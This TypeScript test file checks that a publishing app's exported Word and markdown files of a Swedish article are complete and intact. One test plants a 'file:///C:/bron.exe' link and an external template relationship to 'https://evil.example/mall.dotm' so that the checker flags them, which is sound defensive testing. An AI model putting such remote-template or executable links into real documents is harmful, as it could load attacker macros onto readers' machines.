import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ArticleFile } from '#core/article/articleFile';
import type { PageFinding } from '#core/publish/check/ExportCheck';
import { publishArticle } from '#core/publish/publishArticle';
import { emptyReview } from '#core/review/reviewJson';
import { createNodeFileSystem } from '../../../../../electron/storage/createNodeFileSystem';
import { packZip } from '../../../../../electron/storage/export/packZip';
import { wordFilesOf } from '../../../../../electron/workshop/documents/word/wordArchive';
import { checkWritten } from '../../../../../electron/workshop/written/checkWritten';
import {
  articleOf,
  dialogueLine,
  documentOf,
  figure,
  gallery,
  imageName,
  link,
  paragraph,
} from '../../../core/document/build';
import { suggestedIn } from '../../../core/review/suggestedIn';
import { temporaryFolder } from '../../storage/support/temporaryFolder';
import { checkedAsWritten, photoNamed } from './checkedAsWritten';

const header = {
  headline: 'Ny bro',
  byline: 'Av Anna Ek',
  lead: figure(imageName(1), { caption: 'Bron', credit: 'Bo Lind', alternativeText: 'En bro' }),
};
const article = articleOf(
  documentOf(
    header,
    paragraph('Se ', link('https://www.lerum.se/bron', 'bron i Lerum'), '.'),
    dialogueLine('Den är dyr.'),
    gallery(figure(imageName(2, 'png'), { alternativeText: 'Ån' })),
  ),
);
const original = documentOf(header, paragraph('Bron är gammal.'), paragraph('Den rivs.'), paragraph('Slut.'));
const suggested: ArticleFile = {
  ...articleOf(documentOf(header, paragraph('Bron är ny.'), paragraph('Slut.'))),
  review: {
    ...emptyReview,
    suggestions: suggestedIn(original, documentOf(header, paragraph('Bron är ny.'), paragraph('Slut.'))),
  },
};

const told = (findings: readonly PageFinding[]) =>
  findings.map(({ code, severity, place, facts }) => [severity, code, place ?? '–', ...Object.values(facts)].join(' '));

/** What is found in the Word document of an article when its parts were changed so; null takes one away. */
async function foundInWord(
  changes: Readonly<Record<string, ((text: string) => string) | null>> = {},
  of: ArticleFile = article,
): Promise<readonly string[]> {
  const findings = await checkedAsWritten(await temporaryFolder(), of, {
    format: 'docx',
    damaged: async (bytes) => {
      const files = await wordFilesOf(bytes);
      expect(Object.keys(changes).filter((name) => !files.has(name))).toEqual([]);
      const entries = [...files].flatMap(([name, content]) => {
        const change = changes[name];
        if (change === null) return [];
        if (change === undefined) return [{ path: name, bytes: content, isPacked: true }];
        const changed = change(content.toString('latin1'));
        expect(changed).not.toBe(content.toString('latin1'));
        return [{ path: name, bytes: Buffer.from(changed, 'latin1'), isPacked: true }];
      });
      return packZip(entries);
    },
  });
  return told(findings);
}

const main = 'word/document.xml';
const relations = 'word/_rels/document.xml.rels';
const swap =
  (from: string | RegExp, to: string) =>
  (text: string): string =>
    text.replace(from, to);

/** What is found in a file that stands in the place of a Word document. */
async function foundInFile(damaged: (bytes: Uint8Array) => Uint8Array | Promise<Uint8Array>) {
  return told(await checkedAsWritten(await temporaryFolder(), article, { format: 'docx', damaged }));
}

function foundInSuggested(from: string | RegExp, to: string): Promise<readonly string[]> {
  return foundInWord({ [main]: swap(from, to) }, suggested);
}

const withByte = (bytes: Uint8Array): Uint8Array => Buffer.concat([bytes, Buffer.from([0xff])]);
const withoutWord = (bytes: Uint8Array): Uint8Array => Buffer.from(Buffer.from(bytes).toString().replace('dyr', ''));

describe('checkWritten of a Word document', () => {
  it('finds nothing in what was written, with suggestions and without', async () => {
    expect(await foundInWord()).toEqual([]);
    expect(await foundInWord({}, suggested)).toEqual([]);
  });

  it('tells of a file that is no Word document', async () => {
    const unreadable = ['error file-unreadable –'];
    expect(await foundInFile((bytes) => bytes.subarray(0, 2000))).toEqual(unreadable);
    expect(await foundInFile(() => new Uint8Array())).toEqual(unreadable);
    expect(
      await foundInFile((bytes) => bytes.map((byte, index) => (index > 40 && index < 400 ? 255 - byte : byte))),
    ).toEqual(unreadable);
    expect(await foundInFile(() => packZip([]))).toEqual([
      'error part-missing – [Content_Types].xml',
      'error part-missing – _rels/.rels',
    ]);
  });

  it('tells of parts that are missing, of no known kind or no XML', async () => {
    expect(await foundInWord({ [main]: null })).toEqual([`error part-missing – ${main}`]);
    expect(await foundInWord({ 'word/styles.xml': null })).toEqual(['error part-missing – word/styles.xml']);
    expect(await foundInWord({ '[Content_Types].xml': swap('Extension="png"', 'Extension="bmp"') })).toEqual([
      expect.stringMatching(/^error part-untyped – word\/.*\.png$/u),
    ]);
    expect(await foundInWord({ 'word/styles.xml': swap('</w:styles>', '') })).toEqual([
      'error part-broken – word/styles.xml',
    ]);
    expect(await foundInWord({ [main]: swap('</w:p>', '') })).toEqual([`error part-broken – ${main}`]);
  });

  it('tells of words that are missing, doubled or elsewhere, with their block', async () => {
    expect(await foundInWord({ [main]: swap('Lerum', '') })).toEqual(['error words-missing document.content[6] Lerum']);
    expect(await foundInWord({ [main]: swap('Ny bro', 'Ny Ny bro') })).toEqual(['error words-added – Ny']);
    expect(await foundInWord({ [main]: swap('Ny bro', 'bro Ny') })).toEqual([
      expect.stringMatching(/^error words-moved document\.content\[1\] (?:Ny|bro)$/u),
    ]);
    expect(await foundInWord({ [main]: swap('\u00E2\u0080\u0093 ', '') })).toEqual([
      expect.stringMatching(/^error dash-missing document\.content\[7\] Den /u),
    ]);
  });

  it('holds both texts against what is suggested', async () => {
    expect(await foundInSuggested('>gammal.<', '>nya.<')).toEqual(['error words-refused – gammal']);
    expect(await foundInSuggested(/<w:delText[^>]*>Den rivs<\/w:delText>/u, '')).toEqual([
      'error words-refused – Den rivs',
    ]);
    expect(await foundInSuggested(/<w:ins [^>]*>(<w:r>.*?<\/w:r>)<\/w:ins>/u, '$1')).toEqual([
      'error words-refused – rivs',
    ]);
    const gone = /<w:del [^>]*>(<w:r><w:)delText([^>]*>gammal\.<\/w:)delText(><\/w:r>)<\/w:del>/u;
    expect(await foundInSuggested(gone, '$1t$2t$3')).toEqual(['error words-added – gammal']);
  });

  it('tells of what leads out of it', async () => {
    expect(await foundInWord({ [relations]: swap('https://www.lerum.se/bron', 'file:///C:/bron.exe') })).toEqual([
      'error link-unsafe – bron i Lerum file:///C:/bron.exe',
    ]);
    const template =
      '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/mall.dotm" TargetMode="External"/></Relationships>';
    expect(await foundInWord({ [relations]: swap('</Relationships>', template) })).toEqual([
      'error relation-outside – https://evil.example/mall.dotm',
    ]);
  });

  it('tells of photos that are missing, damaged or not shown', async () => {
    const [first, second] = publishArticle(article, { format: 'docx' }).files[0]?.making?.pictures ?? [];
    const [one, other] = [`word/${first?.path}`, `word/${second?.path}`];
    expect(await foundInWord({ [one]: null })).toEqual([
      `error part-missing – ${one}`,
      `error picture-file-missing document.content[4] ${first?.path}`,
    ]);
    expect(await foundInWord({ [other]: swap(/^./su, 'x') })).toEqual([`error picture-damaged – ${other}`]);
    expect(await foundInWord({ [main]: swap(/<w:drawing>.*?<\/w:drawing>/u, '') })).toEqual([
      'error words-missing document.content[4] En bro',
      'error pictures-missing – 1',
    ]);
  });
});

describe('checkWritten of a file of text', () => {
  it('tells of bytes that are no text', async () => {
    for (const format of ['text', 'markdown'] as const) {
      const found = await checkedAsWritten(await temporaryFolder(), article, { format, damaged: withByte });
      expect(told(found)).toEqual(['error file-unreadable –']);
    }
  });

  it('reads from the disk, where another program may have changed it, and the photos beside it', async () => {
    const folder = await temporaryFolder();
    expect(await checkedAsWritten(folder, article, { format: 'markdown' })).toEqual([]);
    const [first] = publishArticle(article, { format: 'markdown' }).pictures;
    const missing = { format: 'markdown', isMissing: (name: string) => name === first?.path } as const;
    expect(told(await checkedAsWritten(folder, article, missing))).toEqual([
      `error picture-file-missing document.content[4] ${first?.path}`,
    ]);
    expect(told(await checkedAsWritten(folder, article, { format: 'text', damaged: withoutWord }))).toEqual([
      'error words-missing document.content[7] dyr',
    ]);
  });

  it('reads the file in a zip, and looks for the photos there', async () => {
    const folder = await temporaryFolder();
    const published = publishArticle(article, { format: 'markdown' });
    const [file] = published.files;
    if (file === undefined) throw new Error('Nothing was published');
    const text = { path: file.path, bytes: Buffer.from(file.text), isPacked: false };
    const photos = published.pictures.map((each) => ({ ...each, bytes: photoNamed(each.path), isPacked: true }));
    const filePath = path.join(folder, 'ny-bro.zip');
    const request = {
      format: 'markdown',
      filePath,
      nameInZip: file.path,
      article,
      published,
      page: null,
      lineWidth: null,
    } as const;
    const found = async (entries: Parameters<typeof packZip>[0]) => {
      await writeFile(filePath, await packZip(entries));
      return told(await checkWritten(request, createNodeFileSystem()));
    };
    expect(await found([text, ...photos])).toEqual([]);
    expect(await found([text, ...photos.slice(1)])).toEqual([
      `error picture-file-missing document.content[4] ${photos[0]?.path}`,
    ]);
    expect(await found(photos)).toEqual(['error file-unreadable –']);
    await writeFile(filePath, (await readFile(filePath)).subarray(0, 30));
    expect(told(await checkWritten(request, createNodeFileSystem()))).toEqual(['error file-unreadable –']);
  });

  it('rejects where there is no file', async () => {
    const request = {
      format: 'text',
      filePath: path.join(await temporaryFolder(), 'nej.txt'),
      nameInZip: null,
      article,
      published: { pictures: [], warnings: [] },
      page: null,
      lineWidth: null,
    } as const;
    await expect(checkWritten(request, createNodeFileSystem())).rejects.toThrow('ENOENT');
  });
});
